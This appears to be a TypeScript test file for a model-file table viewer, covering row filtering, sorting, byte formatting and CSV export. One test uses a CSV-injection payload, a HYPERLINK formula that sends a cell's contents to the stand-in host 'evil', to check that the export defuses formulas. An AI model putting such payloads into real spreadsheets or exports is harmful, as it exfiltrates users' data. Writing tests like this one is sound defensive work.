import assert from "node:assert/strict";
import type { ModelFileTable } from "../../../../src/web/modelFile/modelFileTable";
import {
  cellText,
  csvHead,
  csvOf,
  exactText,
  matchingRows,
  nextOrder,
  searchTexts,
  sortedRows,
} from "../../../../src/web/modelFile/tableRows";

const TABLE: ModelFileTable = {
  format: "safetensors",
  totals: [],
  columns: [
    { name: "Name", holds: "text" },
    { name: "Shape", holds: "text" },
    { name: "Bytes", holds: "bytes" },
  ],
  rows: [
    ["layers.10.q_proj", "[2048, 512]", 300],
    ["layers.2.q_proj", "[512]", ""],
    ["layers.2.K_proj", "[512]", 5],
    ['odd,"name"', "[]", 300],
  ],
  metadata: [],
};
const ALL = [0, 1, 2, 3];

describe("The rows of a model file's table", () => {
  it("match when they have all words of the filter, in any case and order", () => {
    const texts = searchTexts(TABLE);
    assert.deepEqual(matchingRows(texts, ""), ALL);
    assert.deepEqual(matchingRows(texts, "  k_PROJ layers.2 "), [2]);
    assert.deepEqual(matchingRows(texts, "[2048, 512]"), [0]);
    assert.deepEqual(matchingRows(texts, "nothing"), []);
  });

  it("sort numbers as numbers, texts with numbers in them likewise, and what is unknown last", () => {
    const sorted = (column: number, isDescending: boolean) => sortedRows(TABLE, ALL, { column, isDescending });
    assert.deepEqual(sorted(2, true), [0, 3, 2, 1]);
    assert.deepEqual(sorted(2, false), [2, 0, 3, 1]);
    assert.deepEqual(sorted(0, false), [2, 1, 0, 3]);
    assert.deepEqual(sortedRows(TABLE, ALL, undefined), ALL);
    assert.deepEqual(sorted(9, false), ALL, "a column that an older page kept");
  });

  it("go from the largest to the smallest, and then back to the file's order", () => {
    const first = nextOrder(TABLE, 2, { column: 0, isDescending: false });
    assert.deepEqual(first, { column: 2, isDescending: true });
    const second = nextOrder(TABLE, 2, first);
    assert.deepEqual(second, { column: 2, isDescending: false });
    assert.equal(nextOrder(TABLE, 2, second), undefined);
    assert.deepEqual(nextOrder(TABLE, 0, undefined), { column: 0, isDescending: false });
  });

  it("say bytes in short, and in full in the tooltip", () => {
    const bytes = TABLE.columns[2]!;
    assert.equal(cellText(525_336_576, bytes), "525.3 MB");
    assert.equal(exactText(525_336_576, bytes), "525,336,576 bytes");
    assert.equal(cellText("", bytes), "");
    assert.equal(cellText(1200, { name: "Parameters", holds: "count" }), "1,200");
  });

  it("are copied as CSV in which no name is a formula", () => {
    const name = '=HYPERLINK("http://evil/?"&A2,"x")';
    const row = csvOf({ ...TABLE, rows: [[name, "[]", -3]] }, [0]);
    assert.equal(row, `"'=HYPERLINK(""http://evil/?""&A2,""x"")",[],-3\n`);
  });

  it("are copied as CSV that gives them back", () => {
    assert.equal(csvHead(TABLE), "Name,Shape,Bytes\n");
    assert.equal(csvOf(TABLE, [3, 1]), '"odd,""name""",[],300\nlayers.2.q_proj,[512],\n');
  });
});
